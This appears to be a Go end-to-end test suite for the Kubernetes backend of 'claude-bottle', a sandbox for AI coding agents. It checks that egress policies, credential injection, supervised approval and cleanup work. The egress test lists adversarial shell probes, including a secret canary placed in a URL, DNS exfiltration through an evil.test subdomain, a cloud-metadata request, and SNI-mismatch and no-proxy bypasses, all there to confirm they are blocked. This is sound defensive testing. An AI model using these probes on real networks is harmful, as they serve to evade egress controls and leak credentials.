//go:build tier3

package kubernetes

import (
	"archive/tar"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"

	"github.com/claude-bottle/claude-bottle/e2e/e2etest"
	"github.com/claude-bottle/claude-bottle/internal/backend"
	"github.com/claude-bottle/claude-bottle/internal/backend/kubernetes/kubetest"
	"github.com/claude-bottle/claude-bottle/internal/manifest"
	"github.com/claude-bottle/claude-bottle/internal/plan"
	"github.com/claude-bottle/claude-bottle/internal/stage"
)

// Tier 3, alone (go test -tags tier3, as .ci/run's step runs it): bottles
// on a real kubelet under runc (docs/kubernetes.md says why not gVisor
// here), with NetworkPolicies enforced by kube-network-policies and a
// cluster DNS. One node for every subtest; the fixtures are pods in the
// "fixtures" namespace behind Services at fixed addresses, named by the
// cluster DNS as *.test, like the Docker suites' upstreams:
//
//   - bottle: the backend's own view (output, exit code, resolver, hosts,
//     egress and cred-proxy refusals, the decision log on the host).
//   - policy: the agent cannot go around egress (direct to a fixture's
//     pod or Service address, or the node), while a pod without our
//     policies can: what stops the agent is the NetworkPolicy.
//   - egress: the adversarial subset through `claude-bottle run --backend
//     kubernetes`, including a host the allowlist has but egress_peers
//     lacks, which the NetworkPolicy stops below the proxy.
//   - claude: the real Claude Code, interactive under tmux, reaching the
//     scripted model through cred-proxy and egress and running a tool in
//     the bottle; /exit ends run with Claude's code and leaves nothing.
//   - terminal-closed: closing the terminal of a running bottle removes it.
func TestTier3RealPods(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	dnsImage := e2etest.GoImage(t, c, "clusterdns")
	upstreamImage := e2etest.GoImage(t, c, "egress-upstream")
	modelImage := e2etest.GoImage(t, c, "fakeanthropic")
	superviseModelImage := e2etest.GoImage(t, c, "supervise-model")

	plane := kubetest.Cluster(t)
	kubetest.Node(t, plane, "claude-bottle-sidecar:local", "claude-bottle-agent:local", dnsImage, upstreamImage, modelImage, superviseModelImage)
	kubetest.ClusterDNS(t, plane, dnsImage, map[string]string{
		"allowed.test": fixtureIP["allowed"], "evil.test": fixtureIP["evil"], "other.test": fixtureIP["other"], "model.test": fixtureIP["model"],
		"smodel.test": fixtureIP["smodel"], "allowed-later.test": fixtureIP["later"],
	})
	ctx := context.Background()
	if _, err := plane.Client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: fixturesNS}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"allowed", "evil", "other"} {
		fixture(t, plane, name, upstreamImage, []corev1.EnvVar{{Name: "FIXTURE_NAME", Value: name}}, 8080, 8443, 443)
	}

	t.Run("bottle", func(t *testing.T) { tier3Bottle(t, plane) })
	t.Run("policy", func(t *testing.T) { tier3Policy(t, plane) })
	t.Run("egress", func(t *testing.T) { tier3Egress(t, plane) })
	t.Run("claude", func(t *testing.T) { tier3Claude(t, plane, modelImage) })
	t.Run("terminal-closed", func(t *testing.T) { tier3TerminalClosed(t, plane) })
	t.Run("supervise", func(t *testing.T) { tier3Supervise(t, plane, superviseModelImage, upstreamImage) })
}

const tier3SuperviseManifest = `backend: kubernetes
agents:
  claude:
    bottle: show
bottles:
  show:
    supervise: true
    kubernetes:
      egress_peers:
        - {namespace: fixtures, pods: {app: smodel}, ports: [8080]}
        - {namespace: fixtures, pods: {app: later}, ports: [8080]}
    egress:
      allow:
        - {host: smodel.test, port: 8080, allow_private: true}
        # An in-cluster service the manifest lets be private, on another
        # port: 8080 is what the agent has to ask for.
        - {host: allowed-later.test, port: 9999, allow_private: true}
    cred_proxy:
      routes:
        - name: model
          path: /anthropic/
          upstream: http://smodel.test:8080
          role: anthropic-base-url
          credentials:
            - {env: E2E_MODEL_KEY, header: x-api-key, format: "{token}"}
`

// The supervise showcase on a cluster, as on Docker (e2e/supervise): the
// real Claude Code, scripted by a model, fetches a host egress refuses,
// asks for it with the supervise MCP tool, and waits; the request travels
// from the supervise pod through the API (its ConfigMap, with the pod's
// own service account, the API reached through the kubernetes Service);
// the person on the host sees it in `supervise` and approves; the decision
// goes back through the API, egress's ConfigMap changes live, and the same
// Claude Code fetches it again and gets 200.
func tier3Supervise(t *testing.T, plane *kubetest.Plane, modelImage, upstreamImage string) {
	const modelKey = "sk-e2e-tier3-supervise-0123456789"
	const target = "allowed-later.test"
	fixture(t, plane, "smodel", modelImage, []corev1.EnvVar{{Name: "MODEL_KEY", Value: modelKey}}, 8080)
	fixture(t, plane, "later", upstreamImage, []corev1.EnvVar{{Name: "FIXTURE_NAME", Value: "later"}}, 8080)
	e, inst := tier3Env(t, plane, tier3SuperviseManifest)
	e.Vars["E2E_MODEL_KEY"] = modelKey
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	run := e.Start(ctx, "run", "claude", "--", "claude", "-p", "fetch "+target,
		"--dangerously-skip-permissions", "--mcp-config", "/etc/claude-bottle/current-config/mcp.json")
	defer func() {
		if t.Failed() {
			r := e.Run(context.Background(), "logs", inst)
			t.Logf("stderr:\n%s\nlogs of %s:\n%s", run.Stderr(), inst, r.Stdout)
		}
	}()
	req := e.AwaitRequest(ctx, run, inst, 3*time.Minute)
	if req.Request.Kind != "egress" || req.Request.Egress == nil || req.Request.Egress.Host != target || req.Request.Egress.Port != 8080 || !strings.Contains(req.Request.Reason, "403") {
		t.Errorf("the model's request: %+v, want egress %s:8080 citing the 403", req.Request, target)
	}
	// Filed through the API: the request is a ConfigMap in the bottle's
	// namespace, made by the supervise pod's service account.
	cms, err := plane.Client.CoreV1().ConfigMaps(inst).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	filed := false
	for _, cm := range cms.Items {
		for _, v := range cm.Data {
			filed = filed || strings.Contains(v, req.Request.ID)
		}
	}
	if !filed {
		t.Errorf("no ConfigMap in %s holds request %s", inst, req.Request.ID)
	}
	// approve returns once egress has reloaded (the kubelet's ConfigMap
	// refresh: up to about a minute), and says what it waits for.
	if r := e.Run(ctx, "supervise", "approve", req.Request.ID, "-m", "go ahead"); r.Code != 0 || !strings.Contains(r.Stderr, "waiting for it to reload") {
		t.Fatalf("approve: %s", r)
	}
	runErr := run.Wait(ctx)
	if ctx.Err() != nil {
		t.Fatalf("run did not finish\nstdout:\n%s", run.Stdout())
	}
	t.Logf("claude printed: %s", strings.TrimSpace(run.Stdout()))
	if runErr != nil || !strings.Contains(run.Stdout(), "SHOWCASE-DONE 200") {
		t.Fatalf("run: %v\nstdout:\n%s", runErr, run.Stdout())
	}
	namespaceGone(t, plane, e.State, inst)

	// The story in the decision log: refused, asked, allowed by the
	// approved rule; and the target's own record of the one request.
	lr := e.Run(context.Background(), "logs", inst)
	logs := lr.Stdout
	deny := strings.Index(logs, `"host":"`+target+`","port":8080`)
	allowRule := `"rule":"` + target + `:8080 (supervise ` + req.Request.ID
	if deny < 0 || !strings.Contains(logs, `"kind":"proposal"`) || !strings.Contains(logs, allowRule) {
		t.Errorf("the log lacks part of the story (refusal, proposal, %s):\n%s", allowRule, logs)
	}
	if l := podLog(t, plane, fixturesNS, "later"); strings.Count(l, "req later ") != 1 {
		t.Errorf("allowed-later.test should have one request, after the approval:\n%s", l)
	}
}

// A person closes the terminal of a running bottle: run gets SIGHUP and
// removes the namespace and the stage directory; nothing stays.
func tier3TerminalClosed(t *testing.T, plane *kubetest.Plane) {
	e, inst := tier3Env(t, plane, "backend: kubernetes\nagents:\n  agent:\n    bottle: box\nbottles:\n  box: {}\n")
	term := e2etest.StartTerminal(t, e.Dir, e.TermEnv(), e.Bin, "run", "agent", "--", "sh", "-c", "echo closed-work > /workspace/w.txt; echo BOTTLE-UP; sleep 600")
	// Its first line, printed before run attached, is on the screen: the
	// attach gate held it (well under the gate's own two-minute limit).
	term.WaitFor("BOTTLE-UP", 75*time.Second)
	if _, err := plane.Client.CoreV1().Namespaces().Get(context.Background(), inst, metav1.GetOptions{}); err != nil {
		t.Fatalf("the bottle's namespace is not there while it runs: %v", err)
	}
	term.Close()
	deadline := time.Now().Add(90 * time.Second)
	for {
		_, err := plane.Client.CoreV1().Namespaces().Get(context.Background(), inst, metav1.GetOptions{})
		_, serr := os.Stat(stage.InstanceDir(e.State, inst))
		if apierrors.IsNotFound(err) && os.IsNotExist(serr) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("90 s after the terminal closed: namespace %v, stage directory %v", err, serr)
		}
		time.Sleep(500 * time.Millisecond)
	}
	// Its work came back before the namespace went.
	archives, _ := filepath.Glob(filepath.Join(e.State, "work", inst+"-*.tar"))
	if len(archives) != 1 || archived(t, archives[0], "./w.txt") != "closed-work\n" {
		t.Errorf("the work of a closed terminal's bottle: %v", archives)
	}
}

// archived is the content of name in a tar file ("" if absent).
func archived(t *testing.T, path, name string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		h, err := tr.Next()
		if err != nil {
			return ""
		}
		if h.Name == name {
			b, _ := io.ReadAll(tr)
			return string(b)
		}
	}
}

const fixturesNS = "fixtures"

// fixtureIP: each fixture's Service address, fixed so that the cluster
// DNS can name it before it exists.
var fixtureIP = map[string]string{"allowed": "10.96.100.1", "evil": "10.96.100.2", "other": "10.96.100.3", "model": "10.96.100.4",
	"smodel": "10.96.100.5", "later": "10.96.100.6"}

// fixture runs image as pod NAME (label app=NAME) in the fixtures
// namespace behind Service NAME at fixtureIP[NAME].
func fixture(t *testing.T, p *kubetest.Plane, name, image string, env []corev1.EnvVar, ports ...int32) *corev1.Pod {
	t.Helper()
	labels := map[string]string{"app": name}
	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: fixturesNS},
		Spec: corev1.ServiceSpec{ClusterIP: fixtureIP[name], Selector: labels}}
	for _, port := range ports {
		svc.Spec.Ports = append(svc.Spec.Ports, corev1.ServicePort{Name: fmt.Sprint("p", port), Port: port, TargetPort: intstr.FromInt32(port)})
	}
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: fixturesNS, Labels: labels},
		Spec: corev1.PodSpec{SecurityContext: kubetest.LowPorts(), Containers: []corev1.Container{{Name: "app", Image: image, ImagePullPolicy: corev1.PullNever, Env: env}}}}
	return kubetest.RunPod(t, p, pod, svc)
}

// podLog is a fixture pod's output so far.
func podLog(t *testing.T, p *kubetest.Plane, ns, name string) string {
	t.Helper()
	rc, err := p.Client.CoreV1().Pods(ns).GetLogs(name, &corev1.PodLogOptions{}).Stream(context.Background())
	if err != nil {
		t.Fatalf("logs of %s/%s: %v", ns, name, err)
	}
	defer rc.Close()
	b, _ := io.ReadAll(rc)
	return string(b)
}

// oneShot runs cmd in a pod of the agent's image in ns (no policy there)
// to its end and returns its output.
func oneShot(t *testing.T, p *kubetest.Plane, ns, name, script string) string {
	t.Helper()
	ctx := context.Background()
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "c", Image: "claude-bottle-agent:local",
			ImagePullPolicy: corev1.PullNever, Command: []string{"sh", "-c", script}}}}}
	if _, err := p.Client.CoreV1().Pods(ns).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	defer p.Client.CoreV1().Pods(ns).Delete(context.Background(), name, metav1.DeleteOptions{})
	deadline := time.Now().Add(2 * time.Minute)
	for {
		got, err := p.Client.CoreV1().Pods(ns).Get(ctx, name, metav1.GetOptions{})
		if err == nil && (got.Status.Phase == corev1.PodSucceeded || got.Status.Phase == corev1.PodFailed) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("pod %s/%s did not end: %v", ns, name, err)
		}
		time.Sleep(300 * time.Millisecond)
	}
	return podLog(t, p, ns, name)
}

// tier3Env is a CLI env for the tier-3 cluster: the manifest, the
// kubeconfig, runc (the node has no gVisor) and a pinned instance name.
func tier3Env(t *testing.T, p *kubetest.Plane, manifestText string) (*e2etest.Env, string) {
	e := e2etest.NewEnv(t, manifestText)
	e.Vars["KUBECONFIG"] = p.Kubeconfig
	e.Vars["CLAUDE_BOTTLE_RUNTIME"] = "runc"
	inst := e2etest.Unique("cbt-k3")
	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst
	return e, inst
}

// namespaceGone fails unless instance's namespace is gone from the cluster
// and its stage directory from the host.
func namespaceGone(t *testing.T, p *kubetest.Plane, state, instance string) {
	t.Helper()
	if _, err := p.Client.CoreV1().Namespaces().Get(context.Background(), instance, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("namespace %s is still there (%v)", instance, err)
	}
	if _, err := os.Stat(stage.InstanceDir(state, instance)); !os.IsNotExist(err) {
		t.Errorf("the stage directory of %s is still there (%v)", instance, err)
	}
}

func tier3Bottle(t *testing.T, plane *kubetest.Plane) {
	ctx := t.Context()
	b := newTestBackend(t, plane.Config, 3*time.Minute)
	m := manifest.Default()
	script := `echo uid=$(id -u); grep nameserver /etc/resolv.conf; getent hosts egress cred-proxy supervise; cat /etc/hosts;
curl -m 20 -sS -o /dev/null -w "egress said %{http_code}\n" https://not-allowed.example.invalid/;
curl -m 20 -sS -x "" -o /dev/null -w "egress health %{http_code}\n" http://egress:3128/healthz;
getent hosts not-allowed.example.invalid || echo "dns stub: no address";
curl -m 20 -sS -x "" http://cred-proxy:8080/nothing-here; echo tier3-work > /workspace/result.txt; exit 7`
	host := plan.Host{Env: map[string]string{"CLAUDE_BOTTLE_CONTAINER": "tier3", "CLAUDE_BOTTLE_RUNTIME": "runc"}, Owner: "testhost/1",
		UID: 1000, GID: 1000, AgentDockerfile: "FROM debian:bookworm-slim\n", RouteCredential: map[string]int{}}
	p, err := plan.Build(m, plan.Options{Agent: "claude", Command: []string{"sh", "-c", script}}, plan.Observed{}, host)
	if err != nil {
		t.Fatal(err)
	}
	bt, err := b.Up(ctx, p, backend.UpOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.Down(context.Background(), p.Instance) })
	var out strings.Builder
	code, err := b.Attach(ctx, bt, backend.Streams{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out})
	t.Logf("the agent printed:\n%s", out.String())
	if err != nil || code != 7 {
		t.Fatalf("exit %d, %v", code, err)
	}
	// The work comes back: /workspace, read through the API from the
	// pod's workspace container after the agent exited.
	work, err := b.Finish(ctx, bt)
	if err != nil || work.Archive == "" {
		t.Fatalf("Finish: %+v, %v", work, err)
	}
	if got := archived(t, work.Archive, "./result.txt"); got != "tier3-work\n" {
		t.Errorf("the archive's result.txt holds %q", got)
	}
	egress, _ := b.cs.CoreV1().Services(p.Instance).Get(ctx, plan.RoleEgress, metav1.GetOptions{})
	for _, want := range []string{"uid=1000", "nameserver " + egress.Spec.ClusterIP, egress.Spec.ClusterIP + " ", "cred-proxy", "supervise",
		"CONNECT tunnel failed, response 403", "egress health 200", "dns stub: no address", "no route for this path", "request_route"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the agent's output lacks %q", want)
		}
	}
	// egress's decision log reaches the host's log directory while the
	// bottle runs, and stays after it.
	egressLog := filepath.Join(stage.LogDir(b.State, p.Instance), "egress.jsonl")
	mirrored := func() bool {
		c, _ := os.ReadFile(egressLog)
		return strings.Contains(string(c), "not-allowed.example.invalid")
	}
	for i := 0; i < 50 && !mirrored(); i++ {
		time.Sleep(200 * time.Millisecond)
	}
	if err := b.Down(ctx, p.Instance); err != nil {
		t.Fatal(err)
	}
	gone(t, b, p.Instance)
	if !mirrored() {
		c, _ := os.ReadFile(egressLog)
		t.Errorf("the host's egress log lacks the refusal:\n%s", c)
	}
}

// probe prints what a direct TCP connection to each target did.
const probe = `for t in "$@"; do
  if curl -sS -m 4 --noproxy '*' -o /dev/null "http://$t/" 2>/dev/null; then echo "reach $t open"; else echo "reach $t closed"; fi
done`

func tier3Policy(t *testing.T, plane *kubetest.Plane) {
	allowed, err := plane.Client.CoreV1().Pods(fixturesNS).Get(context.Background(), "allowed", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	targets := []string{allowed.Status.PodIP + ":8080", fixtureIP["allowed"] + ":8080", kubetest.NodeIP + ":10250"}
	script := "set -- " + strings.Join(targets, " ") + "\n" + probe

	// The control: a pod under no policy reaches the fixture both ways.
	control := oneShot(t, plane, fixturesNS, "control", script)
	for _, tg := range targets[:2] {
		if !strings.Contains(control, "reach "+tg+" open") {
			t.Fatalf("a pod without policies cannot reach %s, so the test proves nothing:\n%s", tg, control)
		}
	}

	before := strings.Count(podLog(t, plane, fixturesNS, "allowed"), "conn ")
	e, inst := tier3Env(t, plane, "backend: kubernetes\nagents:\n  agent:\n    bottle: box\nbottles:\n  box: {}\n")
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	r := e.Run(ctx, "run", "agent", "--", "sh", "-c", script+"\necho probes-done")
	t.Logf("the agent printed:\n%s", r.Stdout)
	if r.Code != 0 || !strings.Contains(r.Stdout, "probes-done") {
		t.Fatalf("run: %s", r)
	}
	for _, tg := range targets {
		if !strings.Contains(r.Stdout, "reach "+tg+" closed") {
			t.Errorf("the agent reached %s around egress", tg)
		}
	}
	namespaceGone(t, plane, e.State, inst)
	// The fixture's own record: no connection from the agent arrived.
	if l := podLog(t, plane, fixturesNS, "allowed"); strings.Count(l, "conn ") != before {
		t.Errorf("allowed.test recorded a connection during the agent's run:\n%s", l)
	}
}

const tier3EgressManifest = `backend: kubernetes
agents:
  agent:
    bottle: box
bottles:
  box:
    kubernetes:
      egress_peers:
        - namespace: fixtures
          pods: {app: allowed}
        - namespace: fixtures
          pods: {app: other}
          ports: [8443]
    egress:
      allow:
        - {host: allowed.test, port: 8080, allow_private: true}
        - {host: allowed.test, port: 8443, allow_private: true}
        # In the allowlist, not in egress_peers: the NetworkPolicy stops it.
        - {host: evil.test, port: 8080, allow_private: true}
        # In egress_peers, without allow_private: the proxy stops it.
        - {host: other.test, port: 8443}
    cred_proxy:
      routes:
        - name: api
          path: /api/
          upstream: https://api.canary.test
          credentials:
            - env: E2E_TOKEN
              header: Authorization
              format: "Bearer {token}"
`

// The egress adversarial subset, as the Docker suite's (e2e/egress) but
// through the cluster: each case one line, then the decision log and the
// upstreams' own records.
func tier3Egress(t *testing.T, plane *kubetest.Plane) {
	e, inst := tier3Env(t, plane, tier3EgressManifest)
	token := "sk-canary-" + strings.TrimPrefix(e2etest.Unique("x"), "x-") + "c0ffee42"
	e.Vars["E2E_TOKEN"] = token
	const hint = "ask with the supervise tool request_egress"
	cases := []struct {
		name, cmd string
		want, not []string
	}{
		{"allowed-http", `hc http://allowed.test:8080/`, []string{"code=200", "upstream allowed reached as allowed.test:8080"}, nil},
		{"allowed-https", `hc -k https://allowed.test:8443/`, []string{"code=200", "connect=200", "upstream allowed reached as allowed.test:8443"}, nil},
		{"not-in-allowlist", `hc http://nowhere.test:8080/`, []string{"code=403", "not in the allowlist", hint}, nil},
		{"wrong-port", `hc http://allowed.test:9999/`, []string{"code=403", "port not in the allowlist for this host"}, nil},
		{"ip-literal", `hc http://` + fixtureIP["allowed"] + `:8080/`, []string{"code=403", "ip literal"}, []string{"upstream"}},
		{"metadata", `hc http://169.254.169.254/latest/meta-data/`, []string{"code=403", "ip literal"}, nil},
		{"private-without-allow-private", `hc -k https://other.test:8443/`, []string{"connect=403"}, []string{"upstream"}},
		{"allowlisted-but-not-a-peer", `hc -m 60 http://evil.test:8080/`, nil, []string{"code=200", "upstream"}},
		{"sni-mismatch", `hc -k --connect-to other.test:8443:allowed.test:8443 https://other.test:8443/`, nil, []string{"code=200", "upstream"}},
		{"canary-in-url", `hc 'http://allowed.test:8080/?q=` + token + `'`, []string{"code=403", "(secret canary)"}, nil},
		{"direct-name-no-proxy", `hc --noproxy '*' http://allowed.test:8080/`, []string{"code=000"}, []string{"upstream"}},
		{"dns-exfiltration", `getent hosts dghllxnly3jldc1wbgfucw.evil.test >/dev/null && echo dns=answered || echo dns=failed`, []string{"dns=failed"}, nil},
	}
	var script strings.Builder
	script.WriteString(`hc() { rm -f /tmp/body; out=$(curl -sS -m 30 -o /tmp/body -w 'code=%{http_code} connect=%{http_connect}' "$@" 2>/tmp/err); ex=$?; echo "$out exit=$ex body=$(head -c 400 /tmp/body 2>/dev/null | tr '\n' ' ')"; }` + "\n")
	for _, k := range cases {
		fmt.Fprintf(&script, "echo \"case %s $(%s)\"\n", k.name, k.cmd)
	}
	script.WriteString("echo suite-done\n")
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	r := e.Run(ctx, "run", "agent", "--", "sh", "-c", script.String())
	if r.Code != 0 || !strings.Contains(r.Stdout, "suite-done") {
		t.Fatalf("agent script: %s", r)
	}
	namespaceGone(t, plane, e.State, inst)
	lines := map[string]string{}
	for _, l := range strings.Split(r.Stdout, "\n") {
		if rest, ok := strings.CutPrefix(l, "case "); ok {
			name, out, _ := strings.Cut(rest, " ")
			lines[name] = out
		}
	}
	for _, k := range cases {
		out, ok := lines[k.name]
		if !ok {
			t.Errorf("%s: no outcome line", k.name)
			continue
		}
		for _, w := range k.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s: outcome lacks %q: %s", k.name, w, out)
			}
		}
		for _, n := range k.not {
			if strings.Contains(out, n) {
				t.Errorf("%s: outcome has %q: %s", k.name, n, out)
			}
		}
	}

	// The decision log, on the host after the bottle is gone, through
	// `logs`: each refusal with its reason, the allowed requests with
	// their rule, no credential.
	lr := e.Run(ctx, "logs", inst)
	if lr.Code != 0 {
		t.Fatalf("logs %s: %s", inst, lr)
	}
	for _, want := range []string{`"reason":"not in the allowlist"`, `"reason":"port not in the allowlist for this host"`, `"reason":"ip literal`,
		`"reason":"resolves to a private address`, `"reason":"sni mismatch"`, `"reason":"secret canary"`,
		`"reason":"the bottle resolves only its own names"`, `"verdict":"allow"`, `"rule":"allowed.test:8080`} {
		if !strings.Contains(lr.Stdout, want) {
			t.Errorf("`logs %s` lacks %s", inst, want)
		}
	}
	if strings.Contains(lr.Stdout, token) {
		t.Errorf("`logs %s` shows the credential", inst)
	}
	if t.Failed() {
		t.Logf("agent output:\n%s\nlogs:\n%s", r.Stdout, lr.Stdout)
	}

	// The upstreams' records: evil.test (allowlisted, not a peer) was
	// never reached: the NetworkPolicy held below the proxy; other.test
	// got no request; allowed.test no credential.
	for _, name := range []string{"evil", "other"} {
		if l := podLog(t, plane, fixturesNS, name); strings.Contains(l, "conn ") {
			t.Errorf("upstream %s.test was reached:\n%s", name, l)
		}
	}
	al := podLog(t, plane, fixturesNS, "allowed")
	if strings.Contains(al, token) {
		t.Errorf("the credential reached allowed.test")
	}
	if !strings.Contains(al, `host="allowed.test:8080"`) {
		t.Errorf("allowed.test recorded no request:\n%s", al)
	}
}

const tier3ClaudeManifest = `backend: kubernetes
agents:
  claude:
    bottle: box
bottles:
  box:
    kubernetes:
      egress_peers:
        - namespace: fixtures
          pods: {app: model}
          ports: [8080]
    egress:
      allow:
        - {host: model.test, port: 8080, allow_private: true}
    cred_proxy:
      routes:
        - name: model
          path: /anthropic/
          upstream: http://model.test:8080
          role: anthropic-base-url
          credentials:
            - env: E2E_API_KEY
              header: x-api-key
              format: "{token}"
`

// The real Claude Code in a cluster bottle, as a person runs it: an
// interactive `claude-bottle run` under tmux reaches Claude's prompt with
// no question, a typed prompt makes the scripted model's Bash tool run in
// the bottle, the model gets the injected key (never the placeholder), and
// /exit ends run with Claude's 0 and leaves no namespace.
func tier3Claude(t *testing.T, plane *kubetest.Plane, modelImage string) {
	const key = "sk-e2e-tier3-key-0123456789abcdef"
	script, err := json.Marshal([]map[string]any{
		{"tool": "Bash", "input": map[string]any{"command": "echo TIER3-$((6*7)) in $(hostname)"}},
		{"text": "TIER3-DONE"},
	})
	if err != nil {
		t.Fatal(err)
	}
	fixture(t, plane, "model", modelImage, []corev1.EnvVar{{Name: "EXPECT_HEADER", Value: "x-api-key"}, {Name: "EXPECT_VALUE", Value: key},
		{Name: "FAKE_SCRIPT", Value: string(script)}, {Name: "ANSWER_TEXT", Value: "TIER3-ANSWER"}}, 8080)
	e, inst := tier3Env(t, plane, tier3ClaudeManifest)
	e.Vars["E2E_API_KEY"] = key
	term := e2etest.StartTerminal(t, e.Dir, e.TermEnv(), e.Bin, "run")
	screen := term.WaitFor("bypass permissions on", 90*time.Second)
	// The questions and warnings a person would meet: none. (An emptyDir
	// /tmp made Claude warn that cross-session messaging is off.)
	questions := []string{"Do you want to use this API key", "trust", "Unable to connect", "Select login method", "Cross-session messaging is off", "sticky bit"}
	for _, q := range questions {
		if strings.Contains(screen, q) {
			t.Errorf("the first screen asks or fails (%q):\n%s", q, screen)
		}
	}
	term.Type("say where you run")
	screen = term.WaitFor("TIER3-DONE", 3*time.Minute)
	for _, q := range questions {
		if strings.Contains(screen, q) {
			t.Errorf("the screen asks or warns (%q):\n%s", q, screen)
		}
	}
	term.Type("/exit")
	if code := term.ExitCode(2 * time.Minute); code != 0 {
		t.Errorf("run exited %d after /exit, want Claude's 0:\n%s", code, term.Screen())
	}
	namespaceGone(t, plane, e.State, inst)

	var ran, requests int
	for _, l := range strings.Split(podLog(t, plane, fixturesNS, "model"), "\n") {
		var rec struct {
			Path        string   `json:"path"`
			OK          bool     `json:"ok"`
			Placeholder bool     `json:"placeholder"`
			ToolResults []string `json:"tool_results"`
		}
		if json.Unmarshal([]byte(l), &rec) != nil || !strings.HasPrefix(rec.Path, "/v1/messages") {
			continue
		}
		requests++
		if !rec.OK || rec.Placeholder {
			t.Errorf("the model got a request without the injected key: %s", l)
		}
		for _, tr := range rec.ToolResults {
			// The tool ran in the agent's pod (hostname: the Sandbox's).
			if strings.Contains(tr, "TIER3-42 in ") {
				ran++
			}
		}
	}
	if requests == 0 || ran == 0 {
		t.Errorf("the model saw %d requests, %d with the Bash tool's output", requests, ran)
	}
}
